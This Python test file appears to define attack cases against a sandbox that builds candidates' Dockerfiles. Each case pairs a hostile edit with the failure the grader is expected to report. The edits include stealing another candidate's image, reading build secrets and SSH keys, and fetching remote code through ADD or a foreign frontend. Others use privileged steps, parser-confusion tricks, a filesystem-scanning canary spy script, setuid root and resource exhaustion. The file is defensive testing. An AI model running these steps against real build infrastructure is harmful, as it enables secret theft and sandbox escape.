"""Attacks through the Dockerfile: on the builder, on other images, on the machine."""

from __future__ import annotations

from pathlib import Path

from tests.attacks.case import Attack, Got
from tests.attacks.edits import Edit, all_of, dockerfile, service, text_file

REPORTING = 'VERSION = "logistic-1"\nimport os, socket\n'
SPY = """import os, re, sys
form = re.compile(rb"CANARY-[0-9a-f]{32}")
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/dev")]
    for name in files:
        path = os.path.join(root, name)
        try:
            if os.path.isfile(path) and form.search(open(path, "rb").read()):
                sys.exit("FOUND " + path)
        except OSError:
            pass
if form.search(open("/proc/self/environ", "rb").read()):
    sys.exit("FOUND in the environment")
"""


def first(line: str) -> Edit:
    """Return an edit that puts a line before the Dockerfile's own."""
    return dockerfile("FROM python:3.11-slim\n", f"{line}\nFROM python:3.11-slim\n")


def step(line: str) -> Edit:
    """Return an edit that adds a step before the service's files are copied."""
    return dockerfile("WORKDIR /srv\n", f"WORKDIR /srv\n{line}\n")


def said(expression: str) -> Edit:
    """Return an edit after which the service's version is what an expression gives inside its container."""
    return service('VERSION = "logistic-1"\n', f"{REPORTING}VERSION = repr({expression})\n")


def version_is(expected: str) -> object:
    """Return a check of what the service has told of itself."""

    def check(got: Got) -> str | None:
        assert got.evidence is not None
        found = got.evidence.document.service.model_version
        return None if found == expected else f"expected the service to say {expected}, found {found}"

    return check


def stopped_in_time(got: Got) -> str | None:
    """Say where a service that ignores signals held the grader."""
    assert got.evidence is not None
    found = got.evidence.document.service.stop_seconds
    return None if found is None or found < 15 else f"stopping took {found} s"


def many_volumes(folder: Path) -> None:
    """Sixty declared volumes."""
    dockerfile("USER 10001\n", "".join(f"VOLUME /v{n}\n" for n in range(60)) + "USER 10001\n")(folder)


STATUS = "sorted(l.split()[1] for l in open('/proc/self/status') if l.startswith(('CapEff', 'CapPrm', 'NoNewPrivs')))"
F = "build BUILD_FAIL"
ATTACKS = (
    Attack(
        "build-takes-our-image",
        "build",
        "builds from the grader's own image",
        f"{F} [unknown-base]",
        dockerfile("FROM python:3.11-slim", "FROM takehome/sandbox"),
        quick=True,
    ),
    Attack(
        "build-copies-another-candidates-image",
        "build",
        "copies files out of another candidate's image",
        f"{F} [unknown-base]",
        step("COPY --from=takehome/takehome-0-image / /stolen"),
    ),
    Attack(
        "build-mounts-another-candidates-image",
        "build",
        "mounts another candidate's image",
        f"{F} [unknown-base]",
        step("RUN --mount=type=bind,from=takehome/other,target=/o cp -r /o /stolen"),
    ),
    Attack(
        "build-remote-add",
        "build",
        "fetches a program by ADD",
        f"{F} [remote-add]",
        step("ADD https://example.org/x /x"),
    ),
    Attack(
        "build-git-add",
        "build",
        "fetches a repository by ADD",
        f"{F} [remote-add]",
        step("ADD git@example.org:a/b.git /x"),
    ),
    Attack(
        "build-onbuild-add",
        "build",
        "hides the same behind ONBUILD",
        f"{F} [remote-add]",
        step("ONBUILD ADD https://example.org/x /x"),
    ),
    Attack(
        "build-foreign-frontend",
        "build",
        "has a stranger's program read the Dockerfile",
        f"{F} [foreign-frontend]",
        first("# syntax=evil/frontend:1"),
    ),
    Attack(
        "build-frontend-json",
        "build",
        "the same as a slash comment",
        f"{F} [foreign-frontend]",
        first("// syntax=evil/frontend:1"),
    ),
    Attack(
        "build-secret-mount",
        "build",
        "asks for the builder's secrets",
        f"{F} [secret-mount]",
        step("RUN --mount=type=secret,id=key cat /run/secrets/key"),
    ),
    Attack(
        "build-ssh-mount",
        "build",
        "asks for the builder's keys",
        f"{F} [secret-mount]",
        step("RUN --mount=type=ssh ssh-add -l"),
    ),
    Attack(
        "build-host-network",
        "build",
        "a step in the machine's own network",
        f"{F} [privileged-step]",
        step("RUN --network=host true"),
    ),
    Attack(
        "build-insecure",
        "build",
        "a step with all privileges",
        f"{F} [privileged-step]",
        step("RUN --security=insecure true"),
    ),
    Attack(
        "build-variable-base",
        "build",
        "a base that only the builder knows",
        f"{F} [",
        dockerfile("FROM python:3.11-slim", "ARG B\nFROM $B"),
    ),
    Attack(
        "build-continued-from",
        "build",
        "a FROM split over lines",
        f"{F} [unknown-base]",
        dockerfile("FROM python:3.11-slim", "FR\\\nOM takehome/sandbox"),
    ),
    Attack(
        "build-escape-directive",
        "build",
        "changes the escape sign, so that readers disagree",
        f"{F} [unknown-base]",
        dockerfile(
            "FROM python:3.11-slim\n",
            "# escape=`\nFROM python:3.11-slim\nRUN true \\\nFROM takehome/sandbox\n",
        ),
    ),
    Attack(
        "build-odd-blanks",
        "build",
        "blanks that one reader sees and another does not",
        f"{F} [not-a-dockerfile]",
        dockerfile("FROM python:3.11-slim\n", "FROM python:3.11-slim\nRUN true\u2028FROM takehome/sandbox\n"),
    ),
    Attack(
        "build-heredoc",
        "build",
        "instructions inside a document",
        f"{F} [unknown-base]",
        step("RUN <<EOF\nCOPY --from=takehome/sandbox / /stolen\nEOF"),
    ),
    Attack(
        "build-never-ends",
        "build",
        "a step that never ends",
        "build TIMEOUT_JOB",
        step("RUN trap '' TERM INT; sleep 100000"),
    ),
    Attack(
        "build-giant-layer",
        "build",
        "an image over its limit",
        "build DISK_LIMIT",
        step("RUN head -c 450000000 /dev/zero > /big"),
    ),
    Attack(
        "build-floods",
        "build",
        "prints without end",
        "build TIMEOUT_JOB | build OUTPUT_LIMIT | build BUILD_FAIL",
        step("RUN yes"),
    ),
    Attack(
        "build-prints-secrets",
        "build",
        "looks for the canary in context, layers and environment",
        "build OK",
        all_of(text_file("spy.py", SPY), step("COPY . /context\nRUN cd /context && python spy.py")),
        quick=True,
    ),
    Attack(
        "build-leaves-daemon",
        "build",
        "a step leaves a process behind",
        "build OK | build TIMEOUT_JOB",
        step("RUN setsid sh -c 'while :; do sleep 1; done' >/dev/null 2>&1 &"),
    ),
    Attack(
        "image-root-setuid",
        "build",
        "runs as root with set-uid programs and all capabilities",
        "service OK",
        all_of(dockerfile("USER 10001\n", "USER root\nRUN chmod u+s /bin/sh /usr/bin/env\n"), said(STATUS)),
        version_is("['0000000000000000', '0000000000000000', '1']"),
    ),
    Attack(
        "image-traps-sigterm",
        "build",
        "ignores every signal",
        "service OK",
        service(
            'if __name__ == "__main__":\n',
            'if __name__ == "__main__":\n    import signal\n'
            "    [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 3, 10, 12, 15)]\n",
        ),
        stopped_in_time,
    ),
    Attack(
        "image-hanging-healthcheck",
        "build",
        "a health check that hangs every second",
        "service OK",
        dockerfile("EXPOSE 8000\n", "EXPOSE 8000\nHEALTHCHECK --interval=1s --timeout=600s CMD sleep 600\n"),
    ),
    Attack(
        "image-odd-ports",
        "build",
        "announces ports that are not its own",
        "service OK",
        dockerfile("EXPOSE 8000", "EXPOSE 1 22 2375 65535/udp"),
    ),
    Attack(
        "image-engine-socket",
        "build",
        "declares a volume where the engine's socket would be",
        "service OK",
        all_of(
            dockerfile("USER 10001\n", "VOLUME /var/run\nUSER 10001\n"),
            said("os.path.exists('/var/run/docker.sock')"),
        ),
        version_is("False"),
    ),
    Attack("image-many-volumes", "build", "sixty volumes", "service SERVICE_DOWN", many_volumes),
    Attack(
        "image-volume-root",
        "build",
        "a volume over the root of the file system",
        "service SERVICE_DOWN",
        dockerfile("USER 10001\n", "VOLUME /\nUSER 10001\n"),
    ),
    Attack(
        "image-unknown-user",
        "build",
        "a user that is not there",
        "service SERVICE_DOWN",
        dockerfile("USER 10001", "USER nobodyatall"),
    ),
    Attack(
        "image-no-command",
        "build",
        "a command that is not there",
        "service SERVICE_DOWN",
        dockerfile('CMD ["python", "service.py"]', 'ENTRYPOINT ["/no/such"]'),
    ),
)
